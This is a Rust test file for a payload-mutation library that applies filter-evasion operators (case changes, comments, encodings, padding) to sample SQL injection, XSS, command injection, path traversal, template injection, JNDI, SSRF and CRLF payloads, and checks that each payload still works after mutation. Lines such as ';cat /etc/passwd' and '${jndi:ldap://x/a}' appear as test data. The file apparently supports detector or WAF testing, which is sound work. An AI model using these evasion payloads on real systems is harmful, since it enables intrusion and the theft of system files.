#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::collections::HashSet;

use super::*;
use crate::exposure::encode;

/// A payload for each operator and what some of its results must hold, once read as the target reads it.
fn sample(name: &str) -> (&'static str, &'static str, &'static [&'static str]) {
    let table: &[(&str, &str, &str, &[&str])] = &[
        (
            "sql-case",
            "sqli",
            "1 union select a from b",
            &["UNION SELECT A FROM B"],
        ),
        (
            "sql-comments",
            "sqli",
            "1 union select a",
            &["1/*", "*/select/*"],
        ),
        (
            "sql-line-comments",
            "sqli",
            "1 union select a",
            &["--", "\nselect"],
        ),
        (
            "sql-blanks",
            "sqli",
            "1 union select a",
            &["union", "select"],
        ),
        ("sql-logic", "sqli", "' or 1=1 and 2=2", &["||", "&&"]),
        ("sql-concat", "sqli", "x='admin'", &["'a", "n'"]),
        ("sql-hex", "sqli", "x='admin'", &["x=0x61646d696e"]),
        ("sql-brackets", "sqli", "' or 1=1--", &["' or (1)=(1)--"]),
        (
            "sql-version-comments",
            "sqli",
            "1 union select a",
            &["union*/ /*!", "select*/ a"],
        ),
        (
            "sql-hash-comments",
            "sqli",
            "1 union select a",
            &["union#", "\nselect"],
        ),
        (
            "sql-odd-blanks",
            "sqli",
            "1 union select a",
            &["union", "select"],
        ),
        ("sql-comparison", "sqli", "' or 17=17-- x", &["17", "-- x"]),
        ("sql-char", "sqli", "x='ab'", &["(97,98)"]),
        ("sql-arithmetic", "sqli", "' or 1=1--", &["-", "="]),
        ("html-case", "xss", "<svg onload=aB(1)>", &["=aB(1)>"]),
        (
            "html-slash",
            "xss",
            "<svg onload=a(1)>",
            &["<svg/", "onload=a(1)>"],
        ),
        (
            "html-attribute",
            "xss",
            "<svg onload=a(1)>",
            &["<svg ", "onload=a(1)>"],
        ),
        (
            "html-entities",
            "xss",
            "<svg onload=a(1)>",
            &["onload=a(1)>"],
        ),
        (
            "js-concat",
            "xss",
            "<b onclick=alert(1)>",
            &["'+'", "](1)>"],
        ),
        (
            "js-escape",
            "xss",
            "<b onclick=alert(1)>",
            &["\\u00", "(1)>"],
        ),
        (
            "html-blanks",
            "xss",
            "<svg onload=a(1)>",
            &["<svg", "onload=a(1)>"],
        ),
        (
            "html-quotes",
            "xss",
            "<svg onload=a(1)>",
            &["onload=", "a(1)"],
        ),
        (
            "html-named-entities",
            "xss",
            "<svg onload=a(1)>",
            &["a&lpar;1&rpar;"],
        ),
        ("js-call", "xss", "<b onclick=alert(1)>", &["alert", "1"]),
        (
            "js-comments",
            "xss",
            "<b onclick=alert(1)>",
            &["alert/*", "*/1)>"],
        ),
        (
            "shell-quotes",
            "cmdi",
            ";cat /etc/passwd",
            &[";c", " /etc/passwd"],
        ),
        (
            "shell-ifs",
            "cmdi",
            ";cat /etc/passwd",
            &[";cat", "/etc/passwd"],
        ),
        ("shell-program-path", "cmdi", ";cat /x", &["bin/", "cat /x"]),
        ("shell-separator", "cmdi", "; cat /x", &[" cat /x"]),
        ("shell-variables", "cmdi", ";cat /x", &[";c", "$"]),
        (
            "shell-braces",
            "cmdi",
            ";cat /etc/passwd",
            &[";{cat,/etc/passwd}"],
        ),
        (
            "shell-wildcards",
            "cmdi",
            ";cat /etc/passwd",
            &["/e?c/", "?"],
        ),
        (
            "shell-base64",
            "cmdi",
            ";cat /etc/passwd",
            &[";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|"],
        ),
        ("path-dot", "lfi", "../../etc/passwd", &[".././", "etc/./"]),
        (
            "path-slashes",
            "lfi",
            "../../etc/passwd",
            &["..//", "etc//"],
        ),
        (
            "path-backslashes",
            "lfi",
            "../../etc/passwd",
            &["..\\", "etc\\"],
        ),
        (
            "path-detour",
            "lfi",
            "../../etc/passwd",
            &["../../", "/../etc/passwd"],
        ),
        (
            "path-semicolon",
            "lfi",
            "../../etc/passwd",
            &["..;", "/etc/passwd"],
        ),
        (
            "path-nested",
            "lfi",
            "../../etc/passwd",
            &["..", "etc/passwd"],
        ),
        (
            "path-suffix",
            "lfi",
            "../../etc/passwd",
            &["../../etc/passwd", "."],
        ),
        ("template-blanks", "ssti", "{{7*7}}", &["{{", "7", "}}"]),
        (
            "template-brackets",
            "ssti",
            "{{a.__class__.__mro__}}",
            &["a[", "__class__", "__mro__"],
        ),
        (
            "jndi-lower",
            "jndi",
            "${jndi:ldap://x/a}",
            &["er:j}", ":ldap://x/a}"],
        ),
        (
            "jndi-default",
            "jndi",
            "${jndi:ldap://x/a}",
            &["j", ":ldap://x/a}"],
        ),
        (
            "address-number",
            "ssrf",
            "http://127.0.0.1/x",
            &["http://", "/x"],
        ),
        (
            "address-octal",
            "ssrf",
            "http://127.0.0.1/x",
            &["0177.0", "01/x"],
        ),
        ("line-break", "mail", "a\r\nBcc: b", &["a\nBcc: b"]),
        (
            "line-break-unicode",
            "crlf",
            "a%0d%0aX: b",
            &["a\u{560d}\u{560a}X: b"],
        ),
        ("json-escape", "nosqli", "{\"$ne\":1}", &["\\u0024", ":1}"]),
        ("json-blanks", "nosqli", "{\"$ne\":1}", &["\"$ne\"", "1"]),
        ("percent", "sqli", "' or 1=1--", &["' or 1=1--"]),
        ("percent-mixed", "sqli", "' or 1=1--", &["' or 1=1--"]),
        ("entities-percent", "xss", "<a b='c'>", &["<a b='c'>"]),
        ("pad-before", "sqli", "' or 1=1--", &["' or 1=1--"]),
        ("pad-after", "sqli", "' or 1=1--", &["' or 1=1--"]),
        (
            "split-parameters",
            "sqli",
            "1 union select a",
            &["/*&", "=*/"],
        ),
        ("repeat-parameter", "xss", "<svg>", &["&", "<svg>"]),
    ];
    let row = table.iter().find(|row| row.0 == name);
    let row = row.unwrap_or_else(|| panic!("no sample for {name}"));
    (row.1, row.2, row.3)
}

/// What a target reads: escapes undone where the operator is about escapes, case levelled where it is about case.
fn read(operator: &Operator, bytes: &[u8]) -> String {
    let undone = match operator.name {
        "percent" | "percent-mixed" | "entities-percent" | "html-entities"
        | "line-break-unicode" => encode::unescape(bytes),
        _ => bytes.to_vec(),
    };
    let text = String::from_utf8_lossy(&undone).into_owned();
    match operator.name {
        "sql-case" => text.to_uppercase(),
        _ => text,
    }
}

#[test]
fn every_operator_changes_bytes_and_keeps_the_payload() {
    for operator in Operator::ALL {
        let (class, payload, parts) = sample(operator.name);
        assert!(operator.suits(class), "{}", operator.name);
        let mut changed = 0;
        for seed in 0..40 {
            let Some(made) = operator.apply(payload.as_bytes(), &mut Dice::new(seed)) else {
                continue;
            };
            changed += 1;
            assert_ne!(made.bytes, payload.as_bytes(), "{}", operator.name);
            let text = read(operator, &made.bytes);
            for part in parts {
                assert!(
                    text.contains(part),
                    "{}: {part:?} is not in {text:?}",
                    operator.name
                );
            }
            assert_eq!(
                made,
                operator
                    .apply(payload.as_bytes(), &mut Dice::new(seed))
                    .unwrap()
            );
        }
        assert!(changed > 30, "{}: {changed} of 40", operator.name);
    }
}

#[test]
fn names_are_unique_and_the_sides_apart() {
    let names: HashSet<&str> = Operator::ALL.iter().map(|operator| operator.name).collect();
    assert_eq!(names.len(), Operator::ALL.len());
    let (training, held_out) = (Operator::training(), Operator::held_out());
    assert_eq!(training.len() + held_out.len(), Operator::ALL.len());
    assert!(training.iter().all(|operator| !held_out.contains(operator)));
    assert!(held_out.len() >= 20, "{}", held_out.len());
    assert_eq!(
        Operator::named("sql-case").map(|o| o.side),
        Some(Side::Training)
    );
    assert_eq!(Operator::named("weather"), None);
}

#[test]
fn only_operators_of_the_class_are_used() {
    let mut dice = Dice::new(3);
    for _ in 0..200 {
        let made = mutate(
            b"' or 'a'='a' union select 1",
            "sqli",
            Operator::ALL,
            &mut dice,
        )
        .unwrap();
        assert!(made.operator.suits("sqli"));
    }
    let only = [Operator::named("html-case").unwrap()];
    assert_eq!(mutate(b"<b>", "sqli", &only, &mut dice), None);
    assert_eq!(mutate(b"no tag", "xss", &only, &mut dice), None);
}

#[test]
fn hostile_bytes_are_no_trouble() {
    let mut dice = Dice::new(8);
    let mut payloads: Vec<Vec<u8>> = (0..300).map(|n| dice.bytes(n % 70)).collect();
    for marks in [
        "<",
        "<a on=",
        "<a on=\"",
        "alert(",
        "'",
        "='",
        "=",
        "1=",
        "${jndi:",
        "../",
        "é=1",
        "<é onx=ü>",
        "{\"\\",
        "cat ",
        ";",
        "999.1.1.1",
    ] {
        payloads.push(marks.as_bytes().to_vec());
        payloads.push(marks.repeat(50).into_bytes());
    }
    for payload in &payloads {
        for operator in Operator::ALL {
            if let Some(made) = operator.apply(payload, &mut dice) {
                assert!(made.bytes.len() <= payload.len() * 60 + carrier::MOST_PADDING * 2);
            }
        }
    }
}
